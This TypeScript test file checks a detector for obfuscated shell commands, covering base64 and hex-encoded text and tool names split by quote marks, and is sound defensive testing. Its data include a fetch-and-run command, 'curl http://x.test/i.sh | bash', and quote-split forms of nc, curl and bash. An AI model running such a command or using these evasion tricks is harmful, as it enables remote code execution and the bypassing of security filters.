import test from 'ava';
import * as fc from 'fast-check';
import { pairsIn } from '../../../src/detect/hidden/neighbours.ts';
import { createSurvey, plainSurvey, splitPairs, type SurveyBytes } from '../../../src/detect/hidden/survey.ts';
import { KIND, PLACE_BYTES } from '../../../src/detect/hidden/survey-program.ts';
import { ANCHORS } from '../../../src/detect/rules/index.ts';

const neighbours = pairsIn(ANCHORS);
const fast = createSurvey(neighbours);
const pairs = splitPairs(neighbours);
const plain: SurveyBytes = (bytes, entries) => plainSurvey(pairs, bytes, entries);

function offsets(survey: SurveyBytes, text: string | Buffer, kind: number): number[] {
  const entries: number[] = [];
  const { count } = survey(Buffer.from(text), entries);
  return entries.slice(0, count).flatMap((entry) => ((entry & 3) === kind ? [Math.floor(entry / 4)] : []));
}

for (const [name, survey] of Object.entries({ fast, plain })) {
  test(`${name}: sees zeros and what is above ASCII`, (t) => {
    t.like(survey(Buffer.from('abc'), []), { hasZero: false, hasHigh: false });
    t.like(survey(Buffer.from('a\0c'), []), { hasZero: true, hasHigh: false });
    t.like(survey(Buffer.from('a\u00e9c'), []), { hasZero: false, hasHigh: true });
  });

  test(`${name}: finds a place in every encoded text, wherever it begins`, (t) => {
    for (let before = 0; before < 40; before++) {
      const lead = `${' '.repeat(before)}"`;
      const coded = Buffer.from('curl http://x.test/i.sh | bash').toString('base64');
      const digits = Buffer.from('curl http://x.test/i.sh | bash').toString('hex');
      t.true(offsets(survey, `${lead}${coded}"`, KIND.base64).length > 0, `base64 behind ${before}`);
      t.true(offsets(survey, `${lead}${digits}"`, KIND.hex).length > 0, `hex behind ${before}`);
    }
  });

  test(`${name}: finds marks that split the word of an anchor`, (t) => {
    t.true(offsets(survey, "run n''c x 80", KIND.split).length > 0);
    t.deepEqual(offsets(survey, 'nothing is split in here', KIND.split), []);
  });
}

test('both surveys see the same splits, and the fast one no place that the plain one misses', (t) => {
  const words = fc.constantFrom("c''url ", 'b"a"sh ', 'word ', Buffer.from('a hidden text').toString('base64'), '\n');
  fc.assert(
    fc.property(fc.array(words, { maxLength: 80 }), (all) => {
      const text = all.join('');
      t.deepEqual(offsets(fast, text, KIND.split), offsets(plain, text, KIND.split));
      const known = offsets(plain, text, KIND.base64);
      const isNear = (at: number): boolean => known.some((other) => Math.abs(other - at) <= PLACE_BYTES);
      t.true(offsets(fast, text, KIND.base64).every(isNear));
    }),
    { numRuns: 50 },
  );
});
